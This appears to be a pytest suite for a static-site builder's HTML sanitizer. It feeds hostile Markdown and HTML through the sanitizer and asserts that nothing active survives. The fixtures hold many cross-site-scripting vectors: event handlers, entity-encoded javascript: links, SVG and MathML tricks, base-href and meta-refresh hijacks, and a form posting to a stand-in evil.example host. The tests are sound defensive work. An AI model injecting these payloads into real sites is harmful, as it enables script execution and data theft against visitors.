"""The site's allow-list: whatever a note or a run contains, the built pages hold no handler, no
active URL, nothing loaded from another host and no script but the theme's own."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from browser.sitekit import build, copy_fixture

from fmbuild.site.harden import CONTENT, EDITION, PAGE, clean_html, style_allowed, url_allowed

HOSTILE_METRIC = ("[click](javascript:alert(1)) ![x](https://evil.example/m.png) "
                  "<img src=x onerror=alert(2)> *bold* {: onclick=alert(3) }")

HOSTILE_NOTE = """---
title: Hostile
id: hostile
tags: [type/source]
maturity: draft
---

# Hostile

![pic](../assets/accuracy.png){ onload="alert('attr-img')" }

[hover](#hostile){ onmouseover="alert('attr-link')" }

A paragraph with a block attribute.
{: onmouseover="alert('attr-block')" }

![remote](../assets/accuracy.png){ src="https://evil.example/attr.png" }

Styled text.
{: style="background:url(https://evil.example/css.png)" }

<img src="../assets/accuracy.png" srcset="https://evil.example/srcset.png 2x">

<svg><foreignObject><img src=x onerror="alert('svg')"></foreignObject><use href="https://evil.example/u.svg#a"/></svg>

<math><mtext><img src=x onerror="alert('math')"></mtext></math>

<details open ontoggle="alert('toggle')"><summary>s</summary>t</details>

<a href="jav&#x61;script:alert('entity')">entity</a> <a href="java
script:alert('split')">split</a> <a href="data:text/html,<script>alert(1)</script>">data</a>

<form action="https://evil.example/steal"><input name=q><button formaction="https://evil.example/f">go</button></form>

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<div id="__config">{"search": "https://evil.example/worker.js"}</div>

Metric cited in prose: {{evidence:toy-evasion/banner}}.
"""


class _Tags(HTMLParser):
    """Every start tag with its attributes, and every script's text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def tags_of(text: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.tags


def active_markup(text: str) -> list[str]:
    """What in `text` a browser would run or fetch from another host."""
    found = []
    for tag, attrs in tags_of(text):
        for key, value in attrs.items():
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if key.startswith("on") or key in ("srcset", "formaction", "srcdoc"):
                found.append(f"<{tag} {key}>")
            elif key in ("href", "src", "action") and plain.startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"<{tag} {key}={value[:30]}>")
            elif key in ("src", "action") and "evil.example" in plain:
                found.append(f"<{tag} {key}={value[:30]}>")
            elif key == "style" and "url(" in plain:
                found.append(f"<{tag} style>")
        if tag in ("base", "iframe", "object", "embed", "math", "foreignobject", "use", "form") and tag != "form":
            found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attrs:
            found.append("<meta http-equiv>")
        if tag == "script" and "evil.example" in attrs.get("src", ""):
            found.append("<script src=remote>")
    return found


# --- the allow-list on its own ------------------------------------------------------------------


@pytest.mark.parametrize("markup", [
    '<img src="a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="  JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    '<img src="a.png" srcset="https://evil.example/x.png 2x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><use href="https://evil.example/a.svg#x"/></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<script src="https://evil.example/x.js"></script>',
    '<script>alert(1)</script>',
    '<script src="attachments/evil.js"></script>',
])
def test_page_policy_removes_what_runs_or_fetches(markup: str) -> None:
    cleaned, removed = clean_html(f"<p>before</p>{markup}<p>after</p>", PAGE)
    assert active_markup(cleaned) == []
    assert "alert(1)" not in cleaned.replace("&lt;", "<") or "<script" not in cleaned
    assert removed, f"nothing reported as removed from {markup!r}"
    assert "<p>before</p>" in cleaned and "<p>after</p>" in cleaned


def test_content_policy_removes_forms_theme_hooks_and_reserved_ids() -> None:
    cleaned, _ = clean_html(
        '<form action="https://evil.example/"><input name="q"></form>'
        '<div id="__config" data-md-component="search">x</div><span name="__md_scope">y</span>'
        '<input type="checkbox" checked>', CONTENT)
    assert "<form" not in cleaned and 'name="q"' not in cleaned
    assert "__config" not in cleaned and "data-md-component" not in cleaned and "__md_scope" not in cleaned
    assert '<input type="checkbox" checked disabled>' in cleaned  # a task list box stays, inert


def test_text_is_re_escaped_so_no_parser_differential_becomes_a_tag() -> None:
    cleaned, _ = clean_html('<p>a &lt;img src=x onerror=alert(1)&gt; b</p><title><img src=x onerror=alert(2)></title>', PAGE)
    assert "onerror" not in re.sub(r"&lt;.*?&gt;", "", cleaned)
    assert "&lt;img src=x onerror=alert(1)&gt;" in cleaned


def test_theme_scripts_stay_and_json_data_cannot_close_its_element() -> None:
    theme = ('<script>var target=document.getElementById(location.hash.slice(1));target&&target.name&&'
             '(target.checked=target.name.startsWith("__tabbed_"))</script>')
    page = (theme + '<script src="../assets/javascripts/bundle.js"></script>'
            '<script id="__config" type="application/json">{"a": "x</scr" }</script>'
            '<script type="application/json" id="fm-graph-data">{"t": "<!--<script>"}</script>')
    cleaned, removed = clean_html(page, PAGE)
    assert theme in cleaned and '<script src="../assets/javascripts/bundle.js"></script>' in cleaned
    assert '{"t": "\\u003c!--\\u003cscript\\u003e"}' in cleaned
    assert removed == []
    assert clean_html(theme.replace("slice(1)", "slice(1),alert(1)"), PAGE)[0] == ""
    assert clean_html(page, CONTENT)[0].count("<script") == 0


def test_urls_and_styles() -> None:
    assert url_allowed("https://example.org/a", loads=False)
    assert url_allowed("../b/#c", loads=True)
    assert not url_allowed("https://example.org/a.png", loads=True)
    assert not url_allowed("data:image/png;base64,AAAA", loads=True)
    assert url_allowed("data:image/png;base64,AAAA", loads=True, allow_data_images=True)
    assert style_allowed("width: 40%; color: #fff; --fm-bar: 0.4")
    assert style_allowed("padding:.6em 1em;font:15px/1.4 system-ui,sans-serif")
    assert not style_allowed("background-image: image-set('https://evil.example/x.png' 1x)")
    assert not style_allowed("color: red; @import 'x'")


def test_edition_policy_keeps_its_style_and_csp_but_no_script() -> None:
    page = ('<head><meta http-equiv="Content-Security-Policy" content="default-src \'none\'">'
            '<style>body{color:#222}</style></head><body><img src="data:image/png;base64,AAAA">'
            '<script>alert(1)</script><style>@import "https://evil.example/x.css";</style></body>')
    cleaned, _ = clean_html(page, EDITION)
    assert "<style>body{color:#222}</style>" in cleaned and "Content-Security-Policy" in cleaned
    assert 'src="data:image/png;base64,AAAA"' in cleaned
    assert "<script" not in cleaned and "evil.example" not in cleaned


# --- the built site ------------------------------------------------------------------------------


def hostile_project(root: Path) -> Path:
    copy_fixture(root)
    (root / "vault" / "sources" / "hostile.md").write_text(HOSTILE_NOTE, encoding="utf-8")
    for name in ("metrics.json", "record.json"):  # a run's string metric, as a record holds it
        path = root / "evidence" / "toy-evasion" / "record" / name
        data = json.loads(path.read_text(encoding="utf-8"))
        (data["metrics"] if name == "record.json" else data)["banner"] = HOSTILE_METRIC
        path.write_text(json.dumps(data), encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    root = hostile_project(tmp_path_factory.mktemp("hostile") / "project")
    report = build(root, fail_on_check=False)  # the site must not rely on check
    assert report.output is not None
    return report.output, report.notices


def test_no_built_page_runs_or_fetches_what_a_note_wrote(hostile_site: tuple[Path, list[str]]) -> None:
    site, notices = hostile_site
    page = (site / "sources" / "hostile" / "index.html").read_text(encoding="utf-8")
    assert active_markup(page) == []
    for other in site.rglob("*.html"):
        assert active_markup(other.read_text(encoding="utf-8")) == [], other
    assert "evil.example" not in " ".join(v for _t, a in tags_of(page) for k, v in a.items() if k != "href")
    assert any("sources/hostile.md: removed from the page" in n for n in notices)


def test_the_search_index_holds_no_handler(hostile_site: tuple[Path, list[str]]) -> None:
    site, _ = hostile_site
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        assert active_markup(doc["text"]) == [], doc["location"]


def test_a_metric_in_prose_is_text(hostile_site: tuple[Path, list[str]]) -> None:
    site, _ = hostile_site
    page = (site / "sources" / "hostile" / "index.html").read_text(encoding="utf-8")
    span = re.search(r'<span class="fm-metric"[^>]*>(.*?)</span>', page, re.S)
    assert span is not None
    assert "<" not in span.group(1)  # no element at all inside: no link, image, emphasis
    parser = HTMLParser(convert_charrefs=True)
    text: list[str] = []
    parser.handle_data = text.append  # type: ignore[method-assign]
    parser.feed(span.group(1))
    parser.close()
    assert "".join(text) == HOSTILE_METRIC  # shown exactly as the run wrote it


def test_the_doctype_stays_so_the_page_is_not_in_quirks_mode() -> None:
    cleaned, _ = clean_html("\n\n<!doctype html>\n<html><head></head><body><p>x</p></body></html>", PAGE)
    assert cleaned.startswith("<!doctype html>")
    assert clean_html("<p>x</p><!doctype html>", PAGE)[0] == "<p>x</p>"


def test_reused_lines_give_exactly_what_a_fresh_parse_gives(hostile_site: tuple[Path, list[str]]) -> None:
    from fmbuild.site import harden

    site, _ = hostile_site
    source = (HOSTILE_NOTE + "\n<p>tail <img src=x\nonerror=alert(1)> <script>\nalert(2)\n</script>\n")
    for text in [source, source] + [p.read_text(encoding="utf-8") for p in sorted(site.rglob("*.html"))[:6]]:
        fresh = harden._Rebuild(PAGE)
        fresh.feed(text)
        fresh.close()
        assert clean_html(text, PAGE) == (fresh.result(), fresh.removed)


@pytest.mark.parametrize("body", ["".join("  " * i + "- x\n" for i in range(600)), "*" * 5000 + "x" + "*" * 5000 + "\n"])
def test_markdown_nested_too_deep_is_a_build_error_naming_the_note(tmp_path: Path, body: str) -> None:
    from fmbuild.site.build import BuildError

    root = copy_fixture(tmp_path / "project")
    (root / "vault" / "sources" / "deep.md").write_text("---\ntitle: Deep\n---\n\n" + body, encoding="utf-8")
    with pytest.raises(BuildError, match=r"^sources/deep\.md: nests too deeply for Markdown to render"):
        build(root, fail_on_check=False)


def test_the_field_manual_itself_loses_nothing_to_the_sanitizer(tmp_path: Path) -> None:
    """Every element and attribute the project's own pages use (the theme's, the evidence and
    steps panels') is on the allow-list: the bundled manual builds with no removal notice."""
    repo = Path(__file__).resolve().parents[1]
    report = build(repo, output=tmp_path / "site", staging=tmp_path / "staging")
    assert report.output is not None
    assert [n for n in report.notices if "removed from the page" in n] == []
